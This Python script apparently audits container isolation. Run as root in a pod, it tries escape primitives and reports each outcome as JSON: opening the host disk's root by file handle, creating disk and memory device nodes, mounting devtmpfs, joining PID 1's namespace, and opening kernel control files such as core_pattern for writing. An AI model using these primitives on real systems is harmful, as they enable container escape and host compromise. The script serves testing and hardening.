"""Tries, as root of a pod, what leads out of a container that kept its rights. Prints one JSON object: try -> what happened."""

from __future__ import annotations

import ctypes
import json
import os
import stat
import sys
from pathlib import Path
from typing import Callable

libc = ctypes.CDLL(None, use_errno=True)
AT_FDCWD = -100
results: dict[str, str] = {}


class Handle(ctypes.Structure):
    _fields_ = [("size", ctypes.c_uint), ("kind", ctypes.c_int), ("data", ctypes.c_ubyte * 128)]


def checked(result: int) -> int:
    if result < 0:
        number = ctypes.get_errno()
        raise OSError(number, os.strerror(number))
    return result


def attempt(name: str, action: Callable[[], str]) -> None:
    try:
        results[name] = f"DONE {action()}"
    except OSError as error:
        results[name] = os.strerror(error.errno or 0)


def by_handle(inode: int) -> str:
    """Opens a file of the disk below the volume by its number: 2 is the root of an ext4, whatever is mounted here."""
    at = os.open(mount, os.O_RDONLY)
    handle = Handle(size=8, kind=1)
    handle.data[:8] = [*inode.to_bytes(4, "little"), 0, 0, 0, 0]
    found = checked(libc.open_by_handle_at(at, ctypes.byref(handle), os.O_RDONLY))
    return ",".join(sorted(os.listdir(found)))


def own_handle() -> str:
    """The handle is one that the kernel gave, so that only the right is missing and not the number."""
    handle, mount_id = Handle(size=128), ctypes.c_int()
    checked(libc.name_to_handle_at(AT_FDCWD, mount.encode(), ctypes.byref(handle), ctypes.byref(mount_id), 0))
    found = checked(libc.open_by_handle_at(os.open(mount, os.O_RDONLY), ctypes.byref(handle), os.O_RDONLY))
    return str(found)


def node(kind: int, major: int, minor: int) -> str:
    path = "/tmp/node"
    if os.path.lexists(path):
        os.remove(path)
    os.mknod(path, kind | 0o600, os.makedev(major, minor))
    return path


def mounted(source: str, kind: str) -> str:
    os.makedirs("/tmp/there", exist_ok=True)
    checked(libc.mount(source.encode(), b"/tmp/there", kind.encode(), 0, None))
    return ",".join(os.listdir("/tmp/there"))


def writable(path: str) -> str:
    """Only opened: what is written there would change the machine."""
    os.close(os.open(path, os.O_WRONLY))
    return path


def block_devices() -> str:
    found = [str(p) for p in Path("/dev").rglob("*") if stat.S_ISBLK(p.lstat().st_mode)]
    raw = [p for p in ("/dev/mem", "/dev/kmsg", "/dev/kvm", "/dev/port") if os.path.exists(p)]
    if not found + raw:
        raise FileNotFoundError(2, "none")
    return ",".join(found + raw)


def remount(path: str) -> str:
    checked(libc.mount(b"none", path.encode(), None, 0x20 | 0x1000, None))
    return writable("/proc/sys/kernel/core_pattern")


def new_namespace() -> str:
    checked(libc.unshare(0x00020000))
    return "mount namespace"


def in_user_namespace() -> str:
    """A namespace of its own gives root all rights in it, and none over what lies outside."""
    reads, writes = os.pipe()
    child = os.fork()
    if child == 0:
        try:
            checked(libc.unshare(0x10000000 | 0x00020000))
            os.write(writes, f"DONE {by_handle(2)}".encode())
        except OSError as error:
            os.write(writes, str(error.errno).encode())
        os._exit(0)
    os.waitpid(child, 0)
    told = os.read(reads, 4096).decode()
    if told.isdigit():
        raise OSError(int(told), os.strerror(int(told)))
    return told


def setns() -> str:
    return str(checked(libc.setns(os.open("/proc/1/ns/mnt", os.O_RDONLY), 0)))


mount = sys.argv[1]
attempt("open_by_handle_at of the disk's root", lambda: by_handle(2))
attempt("open_by_handle_at of a true handle", own_handle)
attempt("open_by_handle_at in a user namespace", in_user_namespace)
attempt("mknod of a disk", lambda: node(stat.S_IFBLK, 254, 0))
attempt("mknod of the memory", lambda: node(stat.S_IFCHR, 1, 1))
attempt("mount of a file system", lambda: mounted("tmpfs", "tmpfs"))
attempt("mount of the machine's devices", lambda: mounted("devtmpfs", "devtmpfs"))
attempt("a new mount namespace", new_namespace)
attempt("the namespace of PID 1", setns)
attempt("core_pattern", lambda: writable("/proc/sys/kernel/core_pattern"))
attempt("core_pattern after a remount", lambda: remount("/proc/sys"))
attempt("sysrq", lambda: writable("/proc/sysrq-trigger"))
attempt("uevent_helper", lambda: writable("/sys/kernel/uevent_helper"))
attempt("raw devices", block_devices)
attempt("kernel memory", lambda: str(len(os.read(os.open("/proc/kcore", os.O_RDONLY), 4096))))
attempt("a kernel module", lambda: str(checked(libc.syscall(313 if os.uname().machine == "x86_64" else 273, 0, b"", 0))))
attempt("a raw socket", lambda: str(checked(libc.socket(17, 3, 0x0300))))
print(json.dumps(results))
